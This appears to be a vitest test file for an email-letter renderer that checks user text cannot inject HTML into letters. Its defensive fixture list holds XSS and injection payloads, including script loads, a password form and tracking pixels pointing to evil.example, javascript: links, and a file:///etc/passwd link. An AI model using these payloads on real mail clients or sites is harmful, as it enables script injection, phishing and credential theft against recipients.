import { expect, test } from 'vitest';
import { type LetterParts, letter } from './letter.tsx';

/** What runs, loads or leads away where a mail program reads it as HTML. */
const hostile = [
  '<script>alert(1)</script>',
  '</title><script src=//evil.example/x.js></script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">Pay here</a>',
  '<form action="https://evil.example"><input name=password>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<!--[if mso]><img src="https://evil.example/seen.gif"><![endif]-->',
  '--><script>alert(1)</script><!--',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<img src="https://evil.example/{{reference}}.gif">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;script&#x3e;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '{{constructor.constructor("alert(1)")()}}',
  '" style="background:url(https://evil.example)',
  '" onmouseover="alert(1)',
  '\u202e<b>txt.exe</b>',
  '<b>bold</b>\n\n<i>lines</i>',
];

const parts = (text: (part: string) => string, language: 'en' | 'bn' = 'en'): LetterParts => ({
  language,
  subject: text('subject'),
  agencyName: text('agency'),
  heading: text('heading'),
  greeting: text('greeting'),
  paragraphs: [text('first'), text('second')],
  facts: [
    { name: text('name'), value: text('value') },
    { name: text('other name'), value: text('other value') },
  ],
  action: { label: text('label'), link: 'https://nokshi.example/orders/abc', linkToo: text('link too') },
  notes: [text('note'), text('other note')],
  closing: text('closing'),
  footer: text('footer'),
});

/** The elements of a letter with everything that stands in their tags, and its comments: what isn't text. */
const skeleton = (html: string) => html.match(/<!--[\s\S]*?-->|<[^>]*>/g) ?? [];

test('no text of anybody becomes a part of a letter’s HTML, wherever it stands', async () => {
  for (const language of ['en', 'bn'] as const) {
    const plain = await letter(parts((part) => part, language));
    const usual = skeleton(plain.html);
    expect(usual.length).toBeGreaterThan(40);
    const elements = new Set(usual.map((tag) => /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase() ?? '!'));
    for (const never of ['script', 'iframe', 'object', 'form', 'input', 'img', 'svg', 'base', 'link']) {
      expect(elements.has(never), never).toBe(false);
    }
    for (const text of hostile) {
      const made = await letter(parts((part) => `${text} ${part}`, language));
      expect(skeleton(made.html), text).toEqual(usual);
      // Clients that show no HTML get the words as they were written.
      expect(made.text).toContain(`${text} second`);
    }
  }
  // The comparison would see it.
  expect(skeleton('<p>a<b>c</b></p>')).not.toEqual(skeleton('<p>a&lt;b&gt;c</p>'));
});

test('a letter leads to the web only', async () => {
  const leading = (link: string) =>
    letter({ ...parts((part) => part), action: { label: 'Here', link, linkToo: 'Or:' } });
  for (const link of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x']) {
    await expect(leading(link)).rejects.toThrow('web only');
  }
  const { html } = await leading('https://nokshi.example/"><script>alert(1)</script>');
  expect(html).not.toContain('<script');
});

test('a list that staff wrote stays a list in HTML, too', async () => {
  const { html } = await letter({ ...parts((part) => part), paragraphs: ['- When?\n- Where?'] });
  const [style] = html.match(/<p style="[^"]*">- When\?\n- Where\?/) ?? [''];
  expect(style).toContain('white-space:pre-line');
});
